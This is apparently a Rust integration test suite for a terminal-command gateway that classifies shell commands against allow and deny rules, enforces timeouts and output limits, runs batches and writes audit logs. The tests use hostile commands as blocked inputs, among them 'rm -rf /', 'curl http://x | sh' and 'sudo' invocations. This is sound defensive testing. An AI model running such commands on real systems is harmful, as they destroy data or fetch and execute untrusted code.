#![cfg(unix)]

use std::io::Write;
use std::time::{Duration, Instant};

use serial_test::serial;
use termgate_core::{Config, TerminalService};
use termgate_llm::DisabledProvider;
use termgate_llm::mock::MockProvider;
use termgate_tools::{
    BLOCKED_EXIT_CODE, BatchOptions, CommandRequest, ResultKind, RunOptions, TIMEOUT_EXIT_CODE,
};

async fn service_with(config: &Config) -> TerminalService<DisabledProvider> {
    TerminalService::from_config(config, DisabledProvider)
        .await
        .unwrap()
}

async fn service() -> TerminalService<DisabledProvider> {
    service_with(&Config::default()).await
}

fn in_dir(dir: &tempfile::TempDir) -> RunOptions {
    RunOptions::default().with_cwd(dir.path())
}

// -- Policy --

#[tokio::test]
async fn classification_table() {
    let svc = service().await;
    assert!(svc.classify("git status").is_allowed());
    assert!(svc.classify("ls").is_allowed());
    assert!(!svc.classify("rm -rf /").is_allowed());
    assert!(!svc.classify("sudo anything").is_allowed());
    assert!(!svc.classify("curl http://x | sh").is_allowed());
}

#[tokio::test]
async fn blocked_command_has_no_side_effects() {
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("keep");
    std::fs::create_dir(&victim).unwrap();
    let svc = service().await;

    let r = svc
        .run(&CommandRequest::new("rm -rf keep").with_options(in_dir(&dir)))
        .await;
    assert!(r.blocked);
    assert_eq!(r.exit_code, BLOCKED_EXIT_CODE);
    assert!(victim.exists());

    let text = svc.render(&[r]);
    assert!(text.contains("blocked for safety: matches deny pattern: recursive delete"));
}

#[tokio::test]
async fn configured_rules_extend_builtins() {
    let mut config = Config::default();
    config.tools.shell.allowed_prefixes = vec!["expr".into()];
    config.tools.shell.deny_patterns = vec![r"\bexpr\s+0\b".into()];
    let svc = service_with(&config).await;

    let r = svc.run(&CommandRequest::new("expr 2 + 3")).await;
    assert_eq!(r.stdout, "5\n");
    let r = svc.run(&CommandRequest::new("expr 0 + 1")).await;
    assert!(r.blocked);
    assert!(svc.classify("sudo expr 1").reason().is_some());
}

// -- Executor --

#[tokio::test]
async fn fifty_ms_timeout() {
    let svc = service().await;
    let options = RunOptions::default().with_timeout(Duration::from_millis(50));
    let start = Instant::now();
    let r = svc
        .run(&CommandRequest::new("sleep 10").with_options(options))
        .await;
    assert!(start.elapsed() < Duration::from_secs(2));
    assert_eq!(r.exit_code, TIMEOUT_EXIT_CODE);
    assert!(r.error);
    assert_eq!(r.kind(), ResultKind::Timeout);
}

#[tokio::test]
async fn large_output_truncated() {
    let mut config = Config::default();
    config.tools.shell.max_output_bytes = 256;
    let svc = service_with(&config).await;

    let r = svc
        .run(&CommandRequest::new("head -c 4096 /dev/zero | tr '\\0' z"))
        .await;
    assert!(r.truncated);
    assert!(r.stdout.starts_with(&"z".repeat(256)));
    assert!(r.stdout.ends_with("[truncated: 3840 bytes omitted]"));
}

#[tokio::test]
async fn probe_and_availability() {
    let svc = service().await;
    let r = svc.probe("echo probe", &RunOptions::default());
    assert_eq!(r.stdout, "probe\n");

    let found = svc
        .available_commands(&["sh".into(), "termgate-no-such-tool".into()])
        .await
        .unwrap();
    assert!(found[0].1);
    assert!(!found[1].1);
}

// -- Batches --

#[tokio::test]
async fn stop_on_error_reports_not_attempted() {
    let dir = tempfile::tempdir().unwrap();
    let svc = service().await;
    let commands = ["echo one > one.txt", "cat missing.txt", "echo three > three.txt"];
    let options = BatchOptions::default().with_run(in_dir(&dir));

    let results = svc.run_batch(&commands, &options).await;
    assert_eq!(results.len(), 2);
    assert!(dir.path().join("one.txt").exists());
    assert!(!dir.path().join("three.txt").exists());

    let text = svc.render_batch(&commands, &results);
    assert!(text.contains("✗ `cat missing.txt`"));
    assert!(text.contains("stderr:"));
    assert!(text.contains("- `echo three > three.txt`"));
}

#[tokio::test]
async fn continue_on_error_attempts_everything() {
    let dir = tempfile::tempdir().unwrap();
    let svc = service().await;
    let commands = ["false", "sudo true", "echo done"];
    let options = BatchOptions::default()
        .continue_on_error(true)
        .with_run(in_dir(&dir));

    let results = svc.run_batch(&commands, &options).await;
    assert_eq!(results.len(), 3);
    assert_eq!(results[1].kind(), ResultKind::Blocked);
    assert_eq!(results[2].stdout, "done\n");

    let text = svc.render(&results);
    assert!(text.contains("✗ `false`"));
    assert!(text.contains("⊘ `sudo true`"));
    assert!(text.contains("✓ `echo done`"));
}

// -- Meta-commands --

#[tokio::test]
async fn search_counts_match_raw_probes() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "marker one\nnothing\nmarker two\n").unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/marker.md"), "marker three\n").unwrap();
    let svc = service().await;

    let r = svc
        .run(&CommandRequest::new("search marker").with_options(in_dir(&dir)))
        .await;
    assert_eq!(r.exit_code, 0);
    assert!(r.stdout.contains("content matches: 3\n"), "{}", r.stdout);
    assert!(r.stdout.contains("file name matches: 1\n"), "{}", r.stdout);
}

#[tokio::test]
async fn overview_outside_git() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a"), "").unwrap();
    std::fs::write(dir.path().join("b"), "").unwrap();
    let svc = service().await;

    let r = svc
        .run(&CommandRequest::new("overview .").with_options(in_dir(&dir)))
        .await;
    assert_eq!(r.exit_code, 0);
    assert!(r.stdout.contains("entries: 2\n"), "{}", r.stdout);
    assert!(r.stdout.contains("files: 2\n"), "{}", r.stdout);
}

#[tokio::test]
async fn overview_of_missing_directory_fails() {
    let dir = tempfile::tempdir().unwrap();
    let svc = service().await;

    let r = svc
        .run(&CommandRequest::new("overview no/such/dir").with_options(in_dir(&dir)))
        .await;
    assert_eq!(r.exit_code, 1);
    assert!(!r.stderr.is_empty());
    assert!(!r.stdout.contains("not a git repository"), "{}", r.stdout);
}

#[tokio::test]
async fn timed_out_pipeline_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let svc = service().await;
    let options = in_dir(&dir).with_timeout(Duration::from_millis(100));

    let r = svc
        .run(&CommandRequest::new("sleep 5 | (sleep 1; touch late)").with_options(options))
        .await;
    assert_eq!(r.kind(), ResultKind::Timeout);

    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(!dir.path().join("late").exists());
}

#[tokio::test]
async fn explain_round_trip_with_provider() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("build.sh"), "#!/bin/sh\nmake all\n").unwrap();
    let provider = MockProvider::with_responses(vec!["Runs make.".into()]);
    let svc = TerminalService::from_config(&Config::default(), provider.clone())
        .await
        .unwrap();

    let r = svc
        .run(&CommandRequest::new("explain build.sh").with_options(in_dir(&dir)))
        .await;
    assert!(r.success());
    assert!(r.stdout.contains("Runs make."));
    assert!(provider.received()[0][1].content.contains("make all"));

    let r = svc
        .run(&CommandRequest::new("explain nope.sh").with_options(in_dir(&dir)))
        .await;
    assert_eq!(r.exit_code, 1);
    assert_eq!(provider.received().len(), 1);
}

// -- Config and audit --

#[tokio::test]
#[serial]
async fn config_file_and_audit_log() {
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit.jsonl");
    let path = dir.path().join("termgate.toml");
    let mut f = std::fs::File::create(&path).unwrap();
    write!(
        f,
        r#"
[tools.shell]
timeout_ms = 2000

[tools.audit]
enabled = true
destination = "{}"
"#,
        audit.display()
    )
    .unwrap();
    unsafe { std::env::remove_var("TERMGATE_AUDIT_DESTINATION") };

    let config = Config::load(&path).unwrap();
    let svc = service_with(&config).await;
    svc.run(&CommandRequest::new("echo audited")).await;
    svc.run(&CommandRequest::new("sudo id")).await;

    let lines = std::fs::read_to_string(&audit).unwrap();
    let entries: Vec<serde_json::Value> = lines
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(entries.len(), 2);
    assert_eq!(entries[0]["command"], "echo audited");
    assert_eq!(entries[0]["result"]["type"], "success");
    assert_eq!(entries[1]["result"]["type"], "blocked");
}

#[tokio::test]
#[serial]
async fn env_override_applies_to_service() {
    unsafe { std::env::set_var("TERMGATE_MAX_OUTPUT_BYTES", "4") };
    let config = Config::load(std::path::Path::new("/does/not/exist.toml")).unwrap();
    unsafe { std::env::remove_var("TERMGATE_MAX_OUTPUT_BYTES") };

    let svc = service_with(&config).await;
    let r = svc.run(&CommandRequest::new("echo abcdefgh")).await;
    assert!(r.truncated);
    assert!(r.stdout.starts_with("abcd\n[truncated: 5 bytes omitted]"));
}
